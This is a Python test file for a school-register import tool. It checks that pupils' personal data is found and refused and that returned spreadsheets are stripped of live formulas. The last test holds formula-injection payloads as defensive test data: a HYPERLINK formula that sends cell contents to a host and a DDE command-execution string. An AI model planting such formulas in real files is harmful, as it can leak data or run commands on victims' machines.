"""A school sends its pupils' list by mistake: nothing about a single person is stored, said or given back."""

from pathlib import Path

import openpyxl
import pytest

from services._import_privacy import personal
from services.importing import SchoolOptions, import_schools
from store.database import Database
from store.importing import read_registers
from tests.importing.kit import kinds

CANARIES = ("079301001234", "0903 123 456", "an.nguyen@example.vn", "12/03/2015")


@pytest.mark.parametrize("cell", ["CCCD 079301001234", "079 301 001 234", "ĐT: 0903 123 456", "+84 903123456", "0283.8222.333",
                                  "an.nguyen@example.vn", "Nguyễn Văn An 12/03/2015", "sinh 2015-03-12", "em Nguyễn Văn An",
                                  "học sinh Trần Thị B", "lớp 5A"])
def test_personal_cells_are_found(cell: str) -> None:
    assert personal(cell) is not None


@pytest.mark.parametrize("cell", ["Trường Tiểu học Nguyễn Văn Trỗi", "THPT 30/4", "Trường 19/5", "10.776900", "Phường 12",
                                  "Trường TH Số 1 - cơ sở 2 (2026)", "Lớp mẫu giáo Hoa Sen", "Trường THCS 1/6"])
def test_names_of_schools_are_not_personal(cell: str) -> None:
    assert personal(cell) is None


def test_rows_with_personal_data_are_refused_and_columns_dropped(province: Database, tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    lines = ["Mã trường,Tên trường,Hiệu trưởng,Điện thoại,Ghi chú", f"A,Trường THCS A,Ông X,{CANARIES[1]},{CANARIES[0]}"]
    lines += [f"B{i},Trường THCS {canary},,,x" for i, canary in enumerate(CANARIES)]
    path.write_text("\n".join(lines), encoding="utf-8")
    result = import_schools(province, path, SchoolOptions(home=tmp_path), apply=True)
    assert [s.code for s in read_registers(province).schools] == ["A"]
    assert kinds(result)["personal"] == 4
    assert "2 cột ngoài danh mục" in result.say()
    assert "2 ô có dữ liệu cá nhân" in result.say()
    assert kinds(result)["phone"] == 1  # a mobile is somebody's: only the school's own line would have stayed
    back = result.out.read_text(encoding="utf-8-sig")  # type: ignore[union-attr]
    for canary in (*CANARIES, "Ông X"):
        assert canary not in result.say() + result.say("en") + back


@pytest.mark.parametrize("head", ["Mã học sinh,Họ tên học sinh,Lớp,Tên trường", "Họ và tên,Ngày sinh,Tên trường",
                                  "STT,Họ tên,Số CCCD,Trường"])
def test_a_list_of_pupils_is_refused_whole(head: str, province: Database, tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_text(f"{head}\n1,Nguyễn Văn An,12/03/2015,Trường THCS A\n", encoding="utf-8")
    result = import_schools(province, path, SchoolOptions(home=tmp_path), apply=True)
    assert result.exit_code == 2
    assert "số liệu tổng hợp" in result.say()
    assert not (tmp_path / "imports").exists()


def test_the_returned_file_holds_no_live_formula(province: Database, tmp_path: Path) -> None:
    evil = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"xem")', "=cmd|' /C calc'!A0", "@SUM(A1)", "-1+2", "＝1+1"]
    book = openpyxl.Workbook()
    book.active.append(["code", "name", "other"])
    for i, word in enumerate(evil):
        book.active.append([f"F{i}", f"Trường THCS {i}", word])
        book.active.cell(i + 2, 3).data_type = "s"
    book.save(tmp_path / "s.xlsx")
    result = import_schools(province, tmp_path / "s.xlsx", SchoolOptions(home=tmp_path), apply=True)
    page = openpyxl.load_workbook(result.out).active
    assert all(cell.data_type != "f" for row in page.iter_rows() for cell in row)
    path = tmp_path / "s.csv"
    path.write_text("code,name,other\nA,Trường THCS A,=1+1\n", encoding="utf-8")
    csv_back = import_schools(province, path, SchoolOptions(out=tmp_path / "b.csv"), apply=True).out
    assert "'=1+1" in csv_back.read_text(encoding="utf-8-sig")  # type: ignore[union-attr]
